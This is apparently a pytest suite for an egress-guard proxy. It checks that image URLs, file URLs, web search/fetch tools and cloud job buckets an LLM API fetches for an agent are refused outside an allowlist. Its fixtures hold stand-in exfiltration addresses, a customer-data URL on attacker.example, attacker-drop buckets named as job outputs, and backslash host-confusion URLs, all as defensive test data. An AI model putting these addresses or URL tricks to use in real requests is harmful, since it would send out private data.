"""An address the API fetches for the agent (an image or a file given by URL, the domains a web fetch or
search tool fetches from) is a destination of the agent's: outside its egress allowlist it is refused
under lateral movement, as a remote MCP server is, before anything leaves. Read from each API by unit,
then end to end through a real egressguard in enforce mode with the official SDKs."""

from __future__ import annotations

import json
import ssl
from collections.abc import Callable
from typing import Any

import anthropic
import openai
import pytest
from anthropic.types.beta import BetaWebFetchTool20250910Param
from openai.types.chat import ChatCompletionMessageParam

from proxy.detectors.tools import PROVIDER_FETCH_RULE, fetch_findings
from proxy.dialects import Anthropic, Gemini, Generic, OpenAIChat, OpenAIResponses
from proxy.exchange import Fetch
from tests.harness import Proxy
from tests.test_e2e_declared_tools import refusals
from tests.test_e2e_inspect import _agent, anthropic_client, last_record, openai_client
from tests.test_server_tools import answer
from tests.upstream import FakeUpstream, Reply

OUTSIDE = "https://attacker.example/c?d=customer-row-jane-doe-acct-99812"
PNG = "data:image/png;base64,iVBORw0KGgo="
QUESTION = "what changed in the release?"
ASK_CHAT: list[ChatCompletionMessageParam] = [{"role": "user", "content": QUESTION}]


@pytest.fixture
def enforce(start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch) -> Proxy:
    allow = (
        "[api.openai.com, api.anthropic.com, 'localhost:*', docs.example, '*.docs.example',"
        " corp-docs.storage.googleapis.com]"
    )
    return _agent(start_proxy(mode="enforce", allow=allow), monkeypatch)


def chat_image(url: str) -> list[Any]:
    return [{"role": "user", "content": [{"type": "text", "text": "describe"}, image_url(url)]}]


def image_url(url: str) -> dict[str, Any]:
    return {"type": "image_url", "image_url": {"url": url}}


def url_source(kind: str, url: str) -> dict[str, Any]:
    return {"type": kind, "source": {"type": "url", "url": url}}


def fetches_of(dialect: Any, body: dict[str, Any]) -> list[Fetch]:
    return list(dialect.parse_request(json.dumps(body).encode()).fetches)


GCS = "storage.googleapis.com"
S3 = "s3.amazonaws.com"
BIGQUERY = "https://bigquery.googleapis.com/bigquery/v2/projects"


def job_fetches(body: dict[str, Any]) -> list[tuple[str, str | None, str]]:
    """The addresses the API fetches that a job's body names, read as the generic dialect: where each is
    named, its URL, and what is fetched there."""
    return [(fetch.where, fetch.url, fetch.what) for fetch in fetches_of(Generic(), body)]


def test_addresses_the_api_fetches_are_read_from_every_api() -> None:
    chat = {
        "model": "m",
        "messages": [
            {"role": "user", "content": [image_url(OUTSIDE), image_url(PNG)]},
            {
                "role": "tool",
                "tool_call_id": "c",
                "content": [{"type": "file", "file": {"file_data": OUTSIDE}}],
            },
        ],
    }
    assert fetches_of(OpenAIChat(), chat) == [
        Fetch("messages[0].content[0].image_url.url", OUTSIDE, "image"),
        Fetch("messages[1].content[0].file.file_data", OUTSIDE, "file"),
    ]
    # An address is the file's place, not its content: no attachment that fails to decode.
    assert OpenAIChat().parse_request(json.dumps(chat).encode()).attachments == []
    responses = {
        "model": "m",
        "input": [
            {
                "role": "user",
                "content": [
                    {"type": "input_image", "image_url": " \tHTTPS://attacker.example/i\n"},
                    {"type": "input_image", "image_url": PNG},
                    {"type": "input_file", "file_url": OUTSIDE},
                    {"type": "input_file", "file_id": "file-1"},
                ],
            },
            {
                "type": "function_call_output",
                "call_id": "c",
                "output": [{"type": "input_image", "image_url": OUTSIDE}],
            },
        ],
    }
    assert fetches_of(OpenAIResponses(), responses) == [
        Fetch("input[0].content[0].image_url", "HTTPS://attacker.example/i", "image"),
        Fetch("input[0].content[2].file_url", OUTSIDE, "file"),
        Fetch("input[1].output[0].image_url", OUTSIDE, "image"),
    ]
    anthropic_body = {
        "model": "m",
        "messages": [
            {"role": "user", "content": [url_source("image", OUTSIDE), url_source("document", OUTSIDE)]},
            {
                "role": "user",
                "content": [
                    {"type": "tool_result", "tool_use_id": "t", "content": [url_source("image", OUTSIDE)]}
                ],
            },
        ],
        "tools": [
            {"type": "web_fetch_20250910", "name": "web_fetch"},
            {"type": "web_search_20250305", "name": "web_search", "allowed_domains": ["docs.example"]},
            {"type": "web_search_20250305", "name": "web_search"},
            {"name": "fetch", "input_schema": {"type": "object"}, "allowed_domains": ["docs.example"]},
        ],
    }
    assert fetches_of(Anthropic(), anthropic_body) == [
        Fetch("messages[0].content[0].source.url", OUTSIDE, "image"),
        Fetch("messages[0].content[1].source.url", OUTSIDE, "document"),
        Fetch("messages[1].content[0].content[0].source.url", OUTSIDE, "image"),
        Fetch("tools[0]", None, "web_fetch"),
        Fetch("tools[1].allowed_domains[0]", "https://docs.example", "web_search domain"),
        Fetch("tools[1].allowed_domains[0]", "https://subdomain.docs.example", "web_search domain"),
        Fetch("tools[2]", None, "web_search"),
    ]
    gemini = {
        "contents": [
            {
                "role": "user",
                "parts": [
                    {"fileData": {"fileUri": OUTSIDE, "mimeType": "application/pdf"}},
                    {"file_data": {"file_uri": " GS://corp-docs/q3/doc.pdf"}},
                    {"fileData": {"fileUri": "files/abc-123"}},
                    {"fileData": {"fileUri": "s3://corp-docs/doc.pdf"}},
                    {"fileData": {"fileUri": "gs://attacker@corp-docs/doc.pdf"}},
                    {"fileData": {"fileUri": "//attacker.example/doc.pdf"}},
                ],
            }
        ]
    }
    # A name with no scheme is a file the provider holds; a scheme the API reads no address of is refused.
    gemini_files = "contents[0].parts[{}].{}"
    assert fetches_of(Gemini(), gemini) == [
        Fetch(gemini_files.format(0, "fileData.fileUri"), OUTSIDE, "file"),
        Fetch(
            gemini_files.format(1, "file_data.file_uri"),
            "https://corp-docs.storage.googleapis.com/q3/doc.pdf",
            "file in Cloud Storage",
        ),
        Fetch(gemini_files.format(3, "fileData.fileUri"), "", "file"),
        Fetch(gemini_files.format(4, "fileData.fileUri"), "", "file in Cloud Storage"),
        Fetch(gemini_files.format(5, "fileData.fileUri"), "", "file"),
    ]


def test_the_buckets_a_job_reads_and_writes_are_addresses_the_api_fetches() -> None:
    """A Vertex AI batch prediction job (its fields in camelCase or snake_case) and a Bedrock model
    invocation job name buckets the API reads from and writes to; a location that is no such URI is
    refused, and a URI elsewhere in a body is not one."""
    vertex = {
        "inputConfig": {"gcsSource": {"uris": ["gs://corp-docs/in.jsonl", "s3://corp-docs/x"]}},
        "output_config": {"gcs_destination": {"output_uri_prefix": "gs://attacker-drop/out"}},
        "labels": {"source": "gs://attacker-drop/elsewhere"},
    }
    assert job_fetches(vertex) == [
        (
            "inputConfig.gcsSource.uris[0]",
            f"https://corp-docs.{GCS}/in.jsonl",
            "batch input in Cloud Storage",
        ),
        ("inputConfig.gcsSource.uris[1]", "", "batch input in Cloud Storage"),
        (
            "output_config.gcs_destination.output_uri_prefix",
            f"https://attacker-drop.{GCS}/out",
            "batch output in Cloud Storage",
        ),
    ]
    bedrock = {"outputDataConfig": {"s3OutputDataConfig": {"s3Uri": "s3://attacker-drop/out/"}}}
    assert job_fetches(bedrock) == [
        (
            "outputDataConfig.s3OutputDataConfig.s3Uri",
            f"https://attacker-drop.{S3}/out/",
            "batch output in S3",
        )
    ]


def test_tables_and_training_data_a_job_reads_and_writes_are_addresses_the_api_fetches() -> None:
    """A Vertex AI batch job's BigQuery tables are read at BigQuery's API by project, dataset and table
    (a location that names no project is refused), a tuning job's datasets by their bucket; a Bedrock
    customization, evaluation or import job's S3 locations by their bucket, as the batch buckets are."""
    vertex = {
        "inputConfig": {"bigquerySource": {"inputUri": "bq://corp-analytics.batch.requests"}},
        "output_config": {"bigquery_destination": {"output_uri": "bq://attacker-proj"}},
        "supervisedTuningSpec": {"trainingDatasetUri": "gs://attacker-drop/train.jsonl"},
    }
    assert job_fetches(vertex) == [
        (
            "inputConfig.bigquerySource.inputUri",
            f"{BIGQUERY}/corp-analytics/datasets/batch/tables/requests",
            "batch input in BigQuery",
        ),
        (
            "output_config.bigquery_destination.output_uri",
            f"{BIGQUERY}/attacker-proj",
            "batch output in BigQuery",
        ),
        (
            "supervisedTuningSpec.trainingDatasetUri",
            f"https://attacker-drop.{GCS}/train.jsonl",
            "tuning data in Cloud Storage",
        ),
    ]
    for elsewhere in ("gs://corp-analytics/x", "bq://x", "bq://a.b.c.d", "bq://dom.example:proj.d.t"):
        unread = {"inputConfig": {"bigquerySource": {"inputUri": elsewhere}}}
        assert [url for _, url, _ in job_fetches(unread)] == [""]
    customization = {
        "trainingDataConfig": {"s3Uri": "s3://corp-docs/train.jsonl"},
        "validationDataConfig": {"validators": [{"s3Uri": "s3://attacker-drop/v.jsonl"}]},
        "outputDataConfig": {"s3Uri": "https://attacker.example/out"},
        "modelDataSource": {"s3DataSource": {"s3Uri": "s3://corp-docs/weights/"}},
        "evaluationConfig": {"datasetLocation": {"s3Uri": "s3://corp-docs/eval.jsonl"}},
        "tags": [{"key": "source", "value": "s3://attacker-drop/elsewhere"}],
    }
    assert [(where, url) for where, url, _ in job_fetches(customization)] == [
        ("trainingDataConfig.s3Uri", f"https://corp-docs.{S3}/train.jsonl"),
        ("validationDataConfig.validators[0].s3Uri", f"https://attacker-drop.{S3}/v.jsonl"),
        ("outputDataConfig.s3Uri", ""),
        ("modelDataSource.s3DataSource.s3Uri", f"https://corp-docs.{S3}/weights/"),
        ("evaluationConfig.datasetLocation.s3Uri", f"https://corp-docs.{S3}/eval.jsonl"),
    ]


def test_distillation_partner_tuning_and_distilled_logs_are_addresses_the_api_fetches() -> None:
    """A Vertex AI distillation's prompts, datasets and output root, a partner model tuning's datasets, an
    open model tuning's base weights and output, and the invocation logs a Bedrock distillation job reads
    are buckets the API reaches, as a supervised tuning's are; a field of the same name in another object
    is not one."""
    vertex = {
        "distillationSpec": {
            "promptDatasetUri": "gs://corp-docs/prompts.jsonl",
            "validation_dataset_uri": "gs://attacker-drop/v.jsonl",
            "pipelineRootDirectory": "gs://attacker-drop/root/",
        },
        "partnerModelTuningSpec": {"trainingDatasetUri": "gs://attacker-drop/train.jsonl"},
        "labels": {"pipelineRootDirectory": "gs://attacker-drop/elsewhere"},
    }
    assert [(fetch.where, fetch.url, fetch.what) for fetch in fetches_of(Generic(), vertex)] == [
        (
            "distillationSpec.promptDatasetUri",
            "https://corp-docs.storage.googleapis.com/prompts.jsonl",
            "tuning data in Cloud Storage",
        ),
        (
            "distillationSpec.validation_dataset_uri",
            "https://attacker-drop.storage.googleapis.com/v.jsonl",
            "tuning data in Cloud Storage",
        ),
        (
            "distillationSpec.pipelineRootDirectory",
            "https://attacker-drop.storage.googleapis.com/root/",
            "tuning output in Cloud Storage",
        ),
        (
            "partnerModelTuningSpec.trainingDatasetUri",
            "https://attacker-drop.storage.googleapis.com/train.jsonl",
            "tuning data in Cloud Storage",
        ),
    ]
    open_model = {
        "baseModel": "meta/llama3_1@llama-3.1-8b",
        "customBaseModel": "gs://corp-models/weights/",
        "output_uri": "gs://attacker-drop/tuned/",
        "supervisedTuningSpec": {"trainingDatasetUri": "gs://corp-docs/train.jsonl"},
    }
    assert job_fetches(open_model) == [
        (
            "customBaseModel",
            "https://corp-models.storage.googleapis.com/weights/",
            "tuning base model in Cloud Storage",
        ),
        (
            "output_uri",
            "https://attacker-drop.storage.googleapis.com/tuned/",
            "tuning output in Cloud Storage",
        ),
        (
            "supervisedTuningSpec.trainingDatasetUri",
            "https://corp-docs.storage.googleapis.com/train.jsonl",
            "tuning data in Cloud Storage",
        ),
    ]
    # The names alone are common: another API's top-level output URL, or one inside another object, is none.
    assert (
        job_fetches({"outputUri": "https://example.com/report", "labels": {"outputUri": "gs://x-y/z"}}) == []
    )
    bedrock = {
        "customizationType": "DISTILLATION",
        "trainingDataConfig": {
            "invocationLogsConfig": {
                "usePromptResponse": True,
                "invocationLogSource": {"s3Uri": "s3://attacker-drop/logs/"},
            }
        },
    }
    assert fetches_of(Generic(), bedrock) == [
        Fetch(
            "trainingDataConfig.invocationLogsConfig.invocationLogSource.s3Uri",
            "https://attacker-drop.s3.amazonaws.com/logs/",
            "invocation logs in S3",
        )
    ]


def test_a_vertex_batch_jobs_bigquery_tables_are_checked_against_the_allowlist(
    start_proxy: Callable[..., Proxy], upstream: FakeUpstream
) -> None:
    """The Gemini SDK's Vertex AI batch job from a BigQuery table into another is refused before anything
    leaves where the agent's allowlist does not reach BigQuery's API; between allowed buckets it passes."""
    from google import genai
    from google.genai import types
    from google.oauth2.credentials import Credentials

    def job(proxy: Proxy, src: str, dest: str) -> Any:
        options = types.HttpOptions(
            base_url=upstream.url,
            headers={"X-User-Id": "u-1", "X-Purpose": "support", "X-Consent-Id": "c-1"},
            client_args={
                "proxy": proxy.url(),
                "verify": ssl.create_default_context(cafile=str(proxy.ca_cert)),
            },
        )
        client = genai.Client(
            vertexai=True,
            project="corp",
            location="us-central1",
            credentials=Credentials("t"),
            http_options=options,
        )
        config = types.CreateBatchJobConfig(dest=dest)
        return client.batches.create(model="gemini-2.5-flash", src=src, config=config)

    proxy = start_proxy(mode="enforce", allow="['localhost:*', corp-docs.storage.googleapis.com]")
    with pytest.raises(genai.errors.ClientError) as refused:
        job(proxy, "bq://corp-analytics.batch.in", "bq://attacker-proj.drop")
    assert refused.value.code == 403
    assert upstream.received == []
    assert refusals(last_record(proxy)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "inputConfig.bigquerySource.inputUri", True),
        ("lateral_movement", PROVIDER_FETCH_RULE, "outputConfig.bigqueryDestination.outputUri", True),
    ]
    assert "bigquery.googleapis.com" in json.dumps(last_record(proxy))
    # The same job between buckets the allowlist names passes.
    name = "projects/corp/locations/us-central1/batchPredictionJobs/1"
    upstream.reply = Reply(body=json.dumps({"name": name, "state": "JOB_STATE_PENDING"}).encode())
    assert job(proxy, "gs://corp-docs/in.jsonl", "gs://corp-docs/out/").name == name
    sent = json.loads(upstream.received[-1].body)
    assert sent["inputConfig"]["gcsSource"]["uris"] == ["gs://corp-docs/in.jsonl"]
    assert refusals(last_record(proxy, 2)) == []


def test_browsing_the_api_does_without_a_domain_filter_is_read_from_every_api() -> None:
    """A search or fetch tool the API runs names the domains it may reach, or reaches any address; a
    request enabling none of them gives no address to check."""
    web_search = {"type": "web_search", "filters": {"allowed_domains": ["docs.example"]}}
    responses = {
        "model": "m",
        "input": "hi",
        "tools": [
            {"type": "web_search"},
            {"type": "web_search_preview"},
            web_search,
            {"type": "web_search", "filters": {"allowed_domains": []}},
            {"type": "file_search", "vector_store_ids": ["vs_1"]},
            {"type": "function", "name": "web_search", "parameters": {"type": "object"}},
        ],
    }
    assert fetches_of(OpenAIResponses(), responses) == [
        Fetch("tools[0]", None, "web_search"),
        Fetch("tools[1]", None, "web_search"),
        Fetch("tools[2].filters.allowed_domains[0]", "https://docs.example", "web_search domain"),
        Fetch("tools[2].filters.allowed_domains[0]", "https://subdomain.docs.example", "web_search domain"),
        Fetch("tools[3]", None, "web_search"),
    ]
    chat = {"model": "gpt-4o-search-preview", "messages": ASK_CHAT, "web_search_options": {}}
    assert fetches_of(OpenAIChat(), chat) == [Fetch("web_search_options", None, "web_search")]
    assert fetches_of(OpenAIChat(), {**chat, "web_search_options": None}) == []
    gemini = {
        "contents": [{"role": "user", "parts": [{"text": "what changed?"}]}],
        "tools": [
            {"urlContext": {}},
            {"google_search": {}},
            {"googleSearchRetrieval": {"dynamicRetrievalConfig": {"mode": "MODE_DYNAMIC"}}},
            {"enterpriseWebSearch": {"excludeDomains": ["attacker.example"]}},
            {"codeExecution": {}},
            {"functionDeclarations": [{"name": "googleSearch", "description": "search the wiki"}]},
        ],
    }
    assert fetches_of(Gemini(), gemini) == [
        Fetch("tools[0].urlContext", None, "urlContext"),
        Fetch("tools[1].google_search", None, "googleSearch"),
        Fetch("tools[2].googleSearchRetrieval", None, "googleSearchRetrieval"),
        Fetch("tools[3].enterpriseWebSearch", None, "enterpriseWebSearch"),
    ]
    anthropic_body = {
        "model": "m",
        "messages": ASK_CHAT,
        "tools": [
            {"type": "web_search_20250305", "name": "web_search", "blocked_domains": ["attacker.example"]},
            {"type": "code_execution_20250522", "name": "code_execution"},
            {"name": "web_search", "input_schema": {"type": "object"}},
        ],
    }
    assert fetches_of(Anthropic(), anthropic_body) == [Fetch("tools[0]", None, "web_search")]


def test_an_address_outside_the_allowlist_is_refused_and_one_inside_passes() -> None:
    fetches = [
        Fetch("a", "https://localhost:8443/logo.png", "image"),
        Fetch("b", OUTSIDE, "image"),
        Fetch("c", "https://[bad/", "file"),
        Fetch("d", None, "web_fetch"),
    ]
    findings = fetch_findings(fetches, lambda host, port: host == "localhost")
    assert [(finding.rule, finding.where, finding.extra) for finding in findings] == [
        (PROVIDER_FETCH_RULE, "b", {"host": "attacker.example"}),
        (PROVIDER_FETCH_RULE, "c", {"host": None}),
        (PROVIDER_FETCH_RULE, "d", {}),
    ]
    assert {finding.threat for finding in findings} == {"lateral_movement"}


@pytest.mark.parametrize(
    "url",
    [
        "https://attacker.example\\@localhost/x",
        " HTTPS://attacker.example\\@localhost:8443/x",
        "wss://attacker.example\\@localhost/x",
        "https://attacker.example\\.localhost/x",
    ],
)
def test_an_address_is_read_as_a_web_fetcher_reads_a_backslash(url: str) -> None:
    """A fetcher parsing web URLs as browsers do takes a backslash for a slash: the host before it is the
    one fetched, never the allowed one Python's splitting finds after an ``@``."""
    (finding,) = fetch_findings([Fetch("a", url, "image")], lambda host, port: host == "localhost")
    assert finding.extra["host"] == "attacker.example"


def test_an_image_at_an_address_outside_the_allowlist_is_refused(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = openai_client(upstream)
    with pytest.raises(openai.PermissionDeniedError) as refused:
        client.chat.completions.create(model="m", messages=chat_image(OUTSIDE))
    assert "attacker.example" in str(refused.value)
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[1].image_url.url", True)
    ]
    inside = f"{upstream.url}/logo.png"
    client.chat.completions.create(model="m", messages=chat_image(inside))
    client.chat.completions.create(model="m", messages=chat_image(PNG))
    sent = [json.loads(received.body)["messages"][0]["content"][1] for received in upstream.received]
    assert sent == [image_url(inside), image_url(PNG)]
    assert refusals(last_record(enforce, 2)) == refusals(last_record(enforce, 3)) == []


def test_a_file_by_url_outside_the_allowlist_is_refused(enforce: Proxy, upstream: FakeUpstream) -> None:
    content = [{"type": "input_file", "file_url": OUTSIDE}, {"type": "input_text", "text": "summarise"}]
    with pytest.raises(openai.PermissionDeniedError):
        openai_client(upstream).responses.create(model="m", input=[{"role": "user", "content": content}])  # type: ignore[list-item,misc]
    assert upstream.received == []
    assert refusals(last_record(enforce)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "input[0].content[0].file_url", True)
    ]


def test_anthropic_documents_and_a_web_fetch_tool_the_allowlist_does_not_cover_are_refused(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    client = anthropic_client(upstream)
    messages: Any = [
        {"role": "user", "content": [url_source("document", OUTSIDE), {"type": "text", "text": "sum"}]}
    ]
    with pytest.raises(anthropic.PermissionDeniedError):
        client.messages.create(model="m", max_tokens=10, messages=messages)
    fetch: BetaWebFetchTool20250910Param = {"type": "web_fetch_20250910", "name": "web_fetch"}
    ask: Any = [{"role": "user", "content": f"fetch {OUTSIDE}"}]
    with pytest.raises(anthropic.PermissionDeniedError):
        client.beta.messages.create(model="m", max_tokens=10, messages=ask, tools=[fetch])
    # The API fetches from a domain's subdomains too: ``localhost`` is allowed, its subdomains are not.
    for domain in ("attacker.example", "localhost"):
        with pytest.raises(anthropic.PermissionDeniedError):
            client.beta.messages.create(
                model="m", max_tokens=10, messages=ask, tools=[{**fetch, "allowed_domains": [domain]}]
            )
    assert upstream.received == []
    assert [refusals(last_record(enforce, count)) for count in (1, 2, 3, 4)] == [
        [("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[0].source.url", True)],
        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0]", True)],
        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].allowed_domains[0]", True)],
        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].allowed_domains[0]", True)],
    ]
    upstream.reply = Reply(body=answer({"type": "text", "text": "done"}))
    allowed: list[BetaWebFetchTool20250910Param] = [{**fetch, "allowed_domains": ["docs.example"]}]
    client.beta.messages.create(model="m", max_tokens=10, messages=ask, tools=allowed)
    assert json.loads(upstream.received[-1].body)["tools"] == allowed
    assert refusals(last_record(enforce, 5)) == []


def test_observe_mode_records_the_address_and_lets_it_pass(
    start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch, upstream: FakeUpstream
) -> None:
    proxy = _agent(start_proxy(mode="observe"), monkeypatch)
    openai_client(upstream).chat.completions.create(model="m", messages=chat_image(OUTSIDE))
    assert json.loads(upstream.received[-1].body)["messages"][0]["content"][1] == image_url(OUTSIDE)
    assert refusals(last_record(proxy)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "messages[0].content[1].image_url.url", False)
    ]


def gemini_client(upstream: FakeUpstream) -> Any:
    from google import genai
    from google.genai import types

    options = types.HttpOptions(base_url=upstream.url, headers={"X-User-Id": "u-1"})
    return genai.Client(api_key="test-key", http_options=options)


def test_web_search_without_a_domain_filter_is_refused_and_one_within_the_allowlist_passes(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    """Responses ``web_search`` and Chat ``web_search_options`` through the OpenAI SDK, Anthropic
    ``web_search`` through its SDK: each may reach any address unless its filter names domains the
    agent may reach."""
    client = openai_client(upstream)
    unfiltered: Any = [{"type": "web_search"}, {"type": "web_search_preview"}]
    outside: Any = [{"type": "web_search", "filters": {"allowed_domains": ["attacker.example"]}}]
    for tools in (unfiltered, outside):
        with pytest.raises(openai.PermissionDeniedError):
            client.responses.create(model="m", input="what changed?", tools=tools)
    with pytest.raises(openai.PermissionDeniedError) as refused:
        client.chat.completions.create(
            model="gpt-4o-search-preview", messages=ASK_CHAT, web_search_options={}
        )
    assert "may fetch any address" in str(refused.value)
    with pytest.raises(anthropic.PermissionDeniedError):
        anthropic_client(upstream).messages.create(
            model="m",
            max_tokens=10,
            messages=[{"role": "user", "content": QUESTION}],
            tools=[{"type": "web_search_20250305", "name": "web_search"}],
        )
    assert upstream.received == []
    assert [refusals(last_record(enforce, count)) for count in (1, 2, 3, 4)] == [
        [
            ("lateral_movement", PROVIDER_FETCH_RULE, "tools[0]", True),
            ("lateral_movement", PROVIDER_FETCH_RULE, "tools[1]", True),
        ],
        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].filters.allowed_domains[0]", True)],
        [("lateral_movement", PROVIDER_FETCH_RULE, "web_search_options", True)],
        [("lateral_movement", PROVIDER_FETCH_RULE, "tools[0]", True)],
    ]
    inside: Any = [{"type": "web_search", "filters": {"allowed_domains": ["docs.example"]}}]
    client.responses.create(model="m", input="what changed?", tools=inside)
    client.chat.completions.create(model="m", messages=ASK_CHAT)
    assert [json.loads(received.body).get("tools") for received in upstream.received] == [inside, None]
    assert refusals(last_record(enforce, 5)) == refusals(last_record(enforce, 6)) == []


def test_gemini_search_and_url_context_are_refused_and_function_tools_pass(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    from google import genai
    from google.genai import types

    client = gemini_client(upstream)
    with pytest.raises(genai.errors.ClientError) as refused:
        client.models.generate_content(
            model="gemini-2.5-flash",
            contents="summarise https://docs.example/changelog",
            config=types.GenerateContentConfig(
                tools=[
                    types.Tool(url_context=types.UrlContext()),
                    types.Tool(google_search=types.GoogleSearch()),
                ]
            ),
        )
    assert refused.value.code == 403
    assert upstream.received == []
    assert [finding[:3] for finding in refusals(last_record(enforce))] == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].urlContext"),
        ("lateral_movement", PROVIDER_FETCH_RULE, "tools[1].googleSearch"),
    ]
    lookup = types.FunctionDeclaration(name="google_search", description="search the team wiki")
    client.models.generate_content(
        model="gemini-2.5-flash",
        contents="summarise https://attacker.example/changelog",
        config=types.GenerateContentConfig(tools=[types.Tool(function_declarations=[lookup])]),
    )
    assert len(upstream.received) == 1
    assert refusals(last_record(enforce, 2)) == []


def test_observe_mode_records_browsing_and_lets_it_pass(
    start_proxy: Callable[..., Proxy], monkeypatch: pytest.MonkeyPatch, upstream: FakeUpstream
) -> None:
    from google.genai import types

    proxy = _agent(start_proxy(mode="observe"), monkeypatch)
    config = types.GenerateContentConfig(tools=[types.Tool(url_context=types.UrlContext())])
    client = gemini_client(upstream)  # held: the client closes its connections when collected
    client.models.generate_content(
        model="gemini-2.5-flash", contents="summarise https://attacker.example/x", config=config
    )
    assert json.loads(upstream.received[-1].body)["tools"] == [{"urlContext": {}}]
    assert refusals(last_record(proxy)) == [
        ("lateral_movement", PROVIDER_FETCH_RULE, "tools[0].urlContext", False)
    ]


def test_gemini_files_in_cloud_storage_are_checked_by_their_bucket(
    enforce: Proxy, upstream: FakeUpstream
) -> None:
    """A ``gs://`` object is read as the agent would reach it itself, at its bucket's virtual host: one
    outside the allowlist is refused, as is a URI of a scheme the API reads no address of."""
    from google import genai
    from google.genai import types

    client = gemini_client(upstream)

    def ask(uri: str) -> Any:
        part = types.Part.from_uri(file_uri=uri, mime_type="application/pdf")
        return client.models.generate_content(model="gemini-2.5-flash", contents=[part, "summarise"])

    for uri in ("gs://attacker-drop/doc.pdf", "ftp://attacker.example/doc.pdf"):
        with pytest.raises(genai.errors.ClientError) as refused:
            ask(uri)
        assert refused.value.code == 403
    assert upstream.received == []
    # The SDK spells the part's file in camelCase and its URI in snake_case.
    refused_uri = ("lateral_movement", PROVIDER_FETCH_RULE, "contents[0].parts[0].fileData.file_uri", True)
    assert [refusals(last_record(enforce, count)) for count in (1, 2)] == [[refused_uri], [refused_uri]]
    assert "attacker-drop.storage.googleapis.com" in json.dumps(last_record(enforce, 1))
    ask("gs://corp-docs/q3/doc.pdf")
    sent = json.loads(upstream.received[-1].body)["contents"][0]["parts"][0]
    assert sent["fileData"]["file_uri"] == "gs://corp-docs/q3/doc.pdf"
    assert refusals(last_record(enforce, 3)) == []
